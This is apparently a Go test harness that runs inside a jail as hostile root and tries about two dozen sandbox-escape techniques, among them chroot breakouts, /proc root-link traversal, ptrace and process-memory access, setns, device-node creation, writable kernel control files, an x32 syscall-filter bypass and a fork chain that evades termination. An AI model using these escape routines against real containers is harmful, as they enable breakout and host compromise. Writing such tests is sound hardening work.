// SPDX-License-Identifier: Apache-2.0

// Attacker is what a hostile root user would run in a session. It is started inside the jail as
//
//	attacker ATTACK CANARY GATEWAY-PID
//
// and exits with 0 if the attack worked, printing how; with 1 if it did not. CANARY is the absolute path of a file
// outside the jail: who can read it is out. Attacks that need no file count as worked when the kernel obeyed.
package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

var (
	canary  string
	gateway int
)

var attacks = map[string]func() error{
	"chroot":        chrootWalk,
	"chroot-held":   chrootHeld,
	"proc-links":    procLinks,
	"proc-files":    procFiles,
	"ptrace":        ptrace,
	"memory":        memory,
	"pidfd":         pidfd,
	"kill":          killOutside,
	"mount":         mount,
	"mount-api":     mountAPI,
	"pivot":         pivot,
	"mknod":         mknod,
	"device-nodes":  deviceNodes,
	"module":        module,
	"setns":         setns,
	"unshare":       unshare,
	"userns":        userns,
	"userns-child":  usernsChild,
	"handle":        handle,
	"kernel-files":  kernelFiles,
	"kernel-calls":  kernelCalls,
	"capabilities":  capabilities,
	"raw-socket":    rawSocket,
	"keyring":       keyring,
	"x32":           x32,
	"descriptors":   descriptors,
	"overwrite-exe": overwriteExe,
	"fork-chain":    forkChain,
}

var errFailed = errors.New("did not work")

func main() {
	runtime.LockOSThread()
	if len(os.Args) == 2 && os.Args[1] == "list" {
		var names []string
		for name := range attacks {
			if name != "userns-child" && name != "fork-chain" {
				names = append(names, name)
			}
		}
		slices.Sort(names)
		fmt.Println(strings.Join(names, "\n"))
		return
	}
	canary = os.Args[2]
	gateway, _ = strconv.Atoi(os.Args[3])
	if err := attacks[os.Args[1]](); err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
}

// out reports whether the canary can be read below prefix.
func out(prefix string) bool {
	b, err := os.ReadFile(prefix + canary)
	if err == nil {
		fmt.Printf("read %s%s: %s\n", prefix, canary, b)
	}
	return err == nil
}

func walkUp() error {
	for range 200 {
		unix.Chdir("..")
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	if out("") {
		return nil
	}
	return errFailed
}

func chrootWalk() error {
	dir, err := os.MkdirTemp("/tmp", "x")
	if err != nil {
		return err
	}
	defer os.Remove(dir)
	if err := unix.Chroot(dir); err != nil {
		return err
	}
	return walkUp()
}

func chrootHeld() error {
	fd, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	dir, err := os.MkdirTemp("/tmp", "x")
	if err != nil {
		return err
	}
	defer os.Remove(dir)
	if err := unix.Chroot(dir); err != nil {
		return err
	}
	if err := unix.Fchdir(fd); err != nil {
		return err
	}
	return walkUp()
}

func pids() []int {
	var pids []int
	m, _ := filepath.Glob("/proc/[0-9]*")
	for _, p := range m {
		n, _ := strconv.Atoi(filepath.Base(p))
		pids = append(pids, n)
	}
	return pids
}

// outsiders are processes that are not the attacker's own.
func outsiders() []int {
	found := []int{1, os.Getppid(), gateway}
	if len(pids()) > 0 {
		found = []int{1} // a PID namespace: the gateway's number means nothing here
	}
	return found
}

func procLinks() error {
	for _, pid := range append(pids(), 1, gateway, os.Getppid(), os.Getpid()) {
		for _, l := range []string{"root", "cwd", "root/..", "cwd/../../../../.."} {
			if out(fmt.Sprintf("/proc/%d/%s", pid, l)) {
				return nil
			}
		}
		fds, _ := filepath.Glob(fmt.Sprintf("/proc/%d/fd/*", pid))
		for _, fd := range fds {
			if out(fd) || out(fd+"/../../../../../..") {
				return nil
			}
		}
		tasks, _ := filepath.Glob(fmt.Sprintf("/proc/%d/task/*/root", pid))
		for _, t := range tasks {
			if out(t) {
				return nil
			}
		}
	}
	return errFailed
}

func procFiles() error {
	for _, pid := range outsiders() {
		for _, name := range []string{"environ", "mem", "maps", "auxv", "syscall", "stack", "fd/0", "fd/3", "exe", "map_files"} {
			path := fmt.Sprintf("/proc/%d/%s", pid, name)
			if f, err := os.Open(path); err == nil {
				_, err := f.Read(make([]byte, 1))
				if name == "map_files" {
					_, err = f.Readdirnames(1)
				}
				f.Close()
				if err == nil {
					fmt.Println("read", path)
					return nil
				}
			}
		}
	}
	return errFailed
}

func ptrace() error {
	for _, pid := range outsiders() {
		for _, req := range []uintptr{unix.PTRACE_SEIZE, unix.PTRACE_ATTACH} {
			if _, _, errno := unix.Syscall6(unix.SYS_PTRACE, req, uintptr(pid), 0, 0, 0, 0); errno == 0 {
				fmt.Println("traced", pid)
				return nil
			}
		}
	}
	return errFailed
}

func memory() error {
	for _, pid := range outsiders() {
		for _, write := range []bool{false, true} {
			buf := make([]byte, 1)
			l := []unix.Iovec{{Base: &buf[0]}}
			l[0].SetLen(1)
			r := []unix.RemoteIovec{{Base: 0x400000, Len: 1}}
			var err error
			if write {
				_, err = unix.ProcessVMWritev(pid, l, r, 0)
			} else {
				_, err = unix.ProcessVMReadv(pid, l, r, 0)
			}
			if err == nil || errors.Is(err, unix.EFAULT) {
				fmt.Println("memory of", pid)
				return nil
			}
		}
	}
	return errFailed
}

func pidfd() error {
	for _, pid := range outsiders() {
		fd, err := unix.PidfdOpen(pid, 0)
		if err != nil {
			continue
		}
		for n := range 32 {
			if _, err := unix.PidfdGetfd(fd, n, 0); err == nil {
				fmt.Println("took descriptor", n, "of", pid)
				return nil
			}
		}
		if unix.Setns(fd, unix.CLONE_NEWNS) == nil {
			fmt.Println("entered the namespaces of", pid)
			return nil
		}
	}
	return errFailed
}

// killOutside only looks whether the gateway could be signalled.
func killOutside() error {
	if len(pids()) == 0 {
		return errors.New("not separated in this level")
	}
	for _, pid := range pids() {
		if pid != 1 && pid != os.Getpid() && pid != os.Getppid() {
			fmt.Println("sees process", pid)
			return nil
		}
	}
	// Init must survive whatever its children send.
	for sig := syscall.Signal(1); sig < 65; sig++ {
		if sig != unix.SIGSTOP {
			unix.Kill(1, sig)
		}
	}
	return unix.Kill(gateway+100000, 0)
}

func mount() error {
	for _, m := range [][3]string{
		{"tmpfs", "/tmp", "tmpfs"}, {"proc", "/tmp", "proc"}, {"devtmpfs", "/tmp", "devtmpfs"}, {"sysfs", "/tmp", "sysfs"},
		{"cgroup2", "/tmp", "cgroup2"}, {"overlay", "/tmp", "overlay"}, {"/etc", "/tmp", ""}, {"debugfs", "/tmp", "debugfs"},
	} {
		flags := uintptr(0)
		if m[2] == "" {
			flags = unix.MS_BIND
		}
		if unix.Mount(m[0], m[1], m[2], flags, "") == nil {
			unix.Unmount(m[1], unix.MNT_DETACH)
			fmt.Println("mounted", m[0])
			return nil
		}
	}
	for _, dir := range []string{"/", "/dev", "/proc"} {
		if unix.Mount("", dir, "", unix.MS_REMOUNT|unix.MS_BIND, "") == nil {
			fmt.Println("remounted", dir)
			return nil
		}
	}
	for _, dir := range []string{"/proc/sys", "/proc", "/dev/null", "/dev", "/sys"} {
		if unix.Unmount(dir, unix.MNT_DETACH) == nil {
			fmt.Println("unmounted", dir)
			return nil
		}
	}
	return errFailed
}

func mountAPI() error {
	if fd, err := unix.Fsopen("tmpfs", 0); err == nil {
		unix.Close(fd)
		fmt.Println("fsopen")
		return nil
	}
	if fd, err := unix.OpenTree(unix.AT_FDCWD, "/", unix.OPEN_TREE_CLONE|unix.AT_RECURSIVE); err == nil {
		unix.Close(fd)
		fmt.Println("open_tree")
		return nil
	}
	return unix.MountSetattr(unix.AT_FDCWD, "/", 0, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_NODEV})
}

func pivot() error {
	if err := unix.PivotRoot("/tmp", "/tmp"); errors.Is(err, unix.EPERM) || errors.Is(err, unix.ENOSYS) {
		return err
	}
	fmt.Println("pivot_root is permitted")
	return nil
}

func devices() []uint64 {
	devs := []uint64{unix.Mkdev(8, 0), unix.Mkdev(253, 0), unix.Mkdev(254, 0), unix.Mkdev(259, 0), unix.Mkdev(7, 0)}
	b, _ := os.ReadFile("/proc/partitions")
	for line := range strings.Lines(string(b)) {
		var major, minor uint32
		if n, _ := fmt.Sscan(line, &major, &minor); n == 2 {
			devs = append(devs, unix.Mkdev(major, minor))
		}
	}
	return devs
}

func mknod() error {
	for _, dir := range []string{"/", "/tmp", "/dev", "/dev/shm", "/dev/mqueue", "/dev/pts", "/proc", "/root"} {
		for _, dev := range devices() {
			name := dir + "/.attack"
			if unix.Mknod(name, unix.S_IFBLK|0o666, int(dev)) != nil {
				continue
			}
			fd, err := unix.Open(name, unix.O_RDONLY|unix.O_NONBLOCK, 0)
			unix.Unlink(name)
			if err == nil {
				unix.Close(fd)
				fmt.Println("opened", unix.Major(dev), unix.Minor(dev), "in", dir)
				return nil
			}
			if !errors.Is(err, unix.EACCES) && !errors.Is(err, unix.EPERM) {
				fmt.Println("may open", unix.Major(dev), unix.Minor(dev), "in", dir, err)
				return nil
			}
		}
		for _, minor := range []uint32{1, 2, 4} { // mem, kmem, port
			name := dir + "/.attack"
			if unix.Mknod(name, unix.S_IFCHR|0o666, int(unix.Mkdev(1, minor))) != nil {
				continue
			}
			fd, err := unix.Open(name, unix.O_RDWR, 0)
			unix.Unlink(name)
			if err == nil {
				unix.Close(fd)
				fmt.Println("opened memory device", minor)
				return nil
			}
		}
	}
	return errFailed
}

// deviceNodes opens block devices that are in the jail already.
func deviceNodes() error {
	found := errFailed
	filepath.WalkDir("/", func(path string, d os.DirEntry, err error) error {
		if err != nil || d.Type()&os.ModeDevice == 0 || d.Type()&os.ModeCharDevice != 0 {
			return nil
		}
		if fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NONBLOCK, 0); err == nil {
			unix.Close(fd)
			fmt.Println("opened", path)
			found = nil
		}
		return nil
	})
	return found
}

func module() error {
	permitted := func(err error) bool {
		return err == nil || !errors.Is(err, unix.EPERM) && !errors.Is(err, unix.ENOSYS) && !errors.Is(err, unix.EACCES)
	}
	if permitted(unix.InitModule([]byte("x"), "")) || permitted(unix.FinitModule(0, "", 0)) || permitted(unix.DeleteModule("x", 0)) {
		fmt.Println("modules may be loaded")
		return nil
	}
	return errFailed
}

func setns() error {
	for _, pid := range append(pids(), 1) {
		for name, flag := range map[string]int{"mnt": unix.CLONE_NEWNS, "pid": unix.CLONE_NEWPID, "net": unix.CLONE_NEWNET, "user": unix.CLONE_NEWUSER, "uts": unix.CLONE_NEWUTS} {
			fd, err := unix.Open(fmt.Sprintf("/proc/%d/ns/%s", pid, name), unix.O_RDONLY, 0)
			if err != nil {
				continue
			}
			if unix.Setns(fd, flag) == nil {
				fmt.Println("entered", name, "of", pid)
				return nil
			}
		}
	}
	return errFailed
}

func unshare() error {
	for _, flag := range []int{unix.CLONE_NEWNS, unix.CLONE_NEWPID, unix.CLONE_NEWUTS, unix.CLONE_NEWIPC, unix.CLONE_NEWCGROUP, unix.CLONE_NEWNET} {
		if err := unix.Unshare(flag); err == nil {
			fmt.Printf("unshared %#x\n", flag)
			return nil
		}
	}
	return errFailed
}

// userns gets every capability over a new user namespace, and goes on from there.
func userns() error {
	self, err := os.Executable()
	if err != nil {
		self = os.Args[0]
	}
	pid, err := syscall.ForkExec(self, []string{self, "userns-child", canary, strconv.Itoa(gateway)}, &syscall.ProcAttr{
		Files: []uintptr{0, 1, 2},
		Sys: &syscall.SysProcAttr{
			Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWPID,
			UidMappings: []syscall.SysProcIDMap{{Size: 1}}, GidMappings: []syscall.SysProcIDMap{{Size: 1}},
		},
	})
	if err != nil {
		return err
	}
	var ws syscall.WaitStatus
	if _, err := syscall.Wait4(pid, &ws, 0, nil); err != nil {
		return err
	}
	if ws.ExitStatus() != 0 {
		return errFailed
	}
	return nil
}

func usernsChild() error {
	fmt.Println("made a user namespace")
	return nil
}

func handle() error {
	dir, err := unix.Open("/", unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	for _, ino := range []uint64{2, 128, 256, 1} {
		b := make([]byte, 8)
		*(*uint64)(unsafe.Pointer(&b[0])) = ino
		for _, typ := range []int32{1, 0x81, 2} {
			fd, err := unix.OpenByHandleAt(dir, unix.NewFileHandle(typ, b), unix.O_RDONLY)
			if err == nil || !errors.Is(err, unix.EPERM) {
				fmt.Println("open_by_handle_at is permitted", fd, err)
				return nil
			}
		}
	}
	return errFailed
}

func kernelFiles() error {
	for _, name := range []string{
		"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sysrq-trigger",
		"/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper", "/sys/module/kernel/parameters/panic", "/dev/mem",
		"/dev/kmsg", "/dev/port", "/proc/kcore", "/proc/sys/net/ipv4/ip_forward",
	} {
		if fd, err := unix.Open(name, unix.O_WRONLY, 0); err == nil {
			if name == "/proc/kcore" { // a masked file takes everything
				continue
			}
			unix.Close(fd)
			fmt.Println("opened", name)
			return nil
		}
	}
	return errFailed
}

func kernelCalls() error {
	permitted := func(name string, errno unix.Errno) bool {
		if errno == unix.EPERM || errno == unix.ENOSYS || errno == unix.EACCES {
			return false
		}
		fmt.Println(name, "is permitted:", errno)
		return true
	}
	_, _, e := unix.Syscall(unix.SYS_REBOOT, 0, 0, 0)
	if permitted("reboot", e) {
		return nil
	}
	_, _, e = unix.Syscall6(unix.SYS_KEXEC_LOAD, 0, 0, 0, ^uintptr(0), 0, 0)
	if permitted("kexec_load", e) {
		return nil
	}
	name := []byte("x\x00")
	_, _, e = unix.Syscall(unix.SYS_SWAPON, uintptr(unsafe.Pointer(&name[0])), 0, 0)
	if permitted("swapon", e) {
		return nil
	}
	_, _, e = unix.Syscall(unix.SYS_SETHOSTNAME, uintptr(unsafe.Pointer(&name[0])), 1, 0)
	if permitted("sethostname", e) {
		return nil
	}
	tv := unix.Timeval{Sec: 1}
	_, _, e = unix.Syscall(unix.SYS_SETTIMEOFDAY, uintptr(unsafe.Pointer(&tv)), 0, 0)
	if permitted("settimeofday", e) {
		return nil
	}
	return errFailed
}

func capabilities() error {
	hdr := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	all := [2]unix.CapUserData{{Effective: ^uint32(0), Permitted: ^uint32(0)}, {Effective: 0x1ff, Permitted: 0x1ff}}
	if unix.Capset(&hdr, &all[0]) == nil {
		fmt.Println("regained all capabilities")
		return nil
	}
	for _, c := range []int{unix.CAP_SYS_ADMIN, unix.CAP_SYS_PTRACE, unix.CAP_SYS_MODULE, unix.CAP_SYS_RAWIO, unix.CAP_DAC_READ_SEARCH, unix.CAP_NET_RAW, unix.CAP_NET_ADMIN} {
		if v, _ := unix.PrctlRetInt(unix.PR_CAPBSET_READ, uintptr(c), 0, 0, 0); v == 1 {
			fmt.Println("holds capability", c)
			return nil
		}
	}
	return errFailed
}

func rawSocket() error {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0x0300)
	if err == nil {
		unix.Close(fd)
		fmt.Println("sniffs the network")
	}
	return err
}

// keyring reads the keys of the node's root, which no namespace separates. Without one the filter is impossible.
func keyring() error {
	if len(pids()) == 0 {
		return errors.New("not separated in this level")
	}
	id, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_USER_KEYRING, false)
	if err == nil {
		fmt.Println("user keyring", id)
	}
	return err
}

// x32 goes around a filter of system calls by the other table: keyctl there has the same number.
func x32() error {
	if runtime.GOARCH != "amd64" {
		return errors.New("no such table")
	}
	_, _, errno := unix.Syscall(unix.SYS_KEYCTL|0x40000000, 0, ^uintptr(3), 0)
	if errno != 0 {
		return errno
	}
	return nil
}

func descriptors() error {
	for fd := range 1024 {
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil {
			continue
		}
		switch kind := st.Mode & unix.S_IFMT; {
		case fd > 2 && kind != 0, kind == unix.S_IFDIR:
			fmt.Printf("descriptor %d, mode %o\n", fd, st.Mode)
			return nil
		}
	}
	return errFailed
}

// overwriteExe looks for programs from outside that run inside, and opens them for writing.
func overwriteExe() error {
	for _, pid := range pids() {
		if pid == os.Getpid() {
			continue
		}
		exe := fmt.Sprintf("/proc/%d/exe", pid)
		name, err := os.Readlink(exe)
		if err != nil || strings.HasPrefix(name, "/usr") {
			continue
		}
		fd, err := unix.Open(exe, unix.O_WRONLY, 0)
		if err == nil || errors.Is(err, unix.ETXTBSY) { // busy now, writable later
			unix.Close(fd)
			fmt.Println("may write", name, err)
			return nil
		}
	}
	return errFailed
}

// forkChain runs away from whoever wants to end it: every link is a new process in a new session, writes a byte to the
// file CANARY, and leaves as soon as it has an heir. Only raw system calls are left after the first fork: there is no Go
// runtime any more. It ends by itself after maxLinks, should the test lose: nobody may be left with it.
func forkChain() error {
	const maxLinks = 50_000
	fd, err := unix.Open(canary, unix.O_WRONLY|unix.O_CREAT|unix.O_APPEND, 0o644)
	if err != nil {
		return err
	}
	one := [1]byte{'x'}
	for range maxLinks {
		pid, _, errno := unix.RawSyscall6(unix.SYS_CLONE, uintptr(unix.SIGCHLD), 0, 0, 0, 0, 0)
		if errno == 0 && pid > 0 {
			unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
		}
		unix.RawSyscall(unix.SYS_SETSID, 0, 0, 0)
		unix.RawSyscall(unix.SYS_WRITE, uintptr(fd), uintptr(unsafe.Pointer(&one[0])), 1)
	}
	unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
	return nil
}
